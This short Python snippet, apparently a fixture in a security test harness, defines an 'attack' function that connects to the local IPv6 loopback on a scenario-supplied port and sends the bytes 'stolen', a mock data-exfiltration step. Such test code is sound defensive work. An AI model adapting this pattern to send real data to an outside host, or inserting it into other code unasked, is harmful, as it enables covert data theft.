import socket


def attack(scene, oracle):
    with socket.create_connection(("::1", scene["tcp6"]), 2) as connection:
        connection.send(b"stolen")
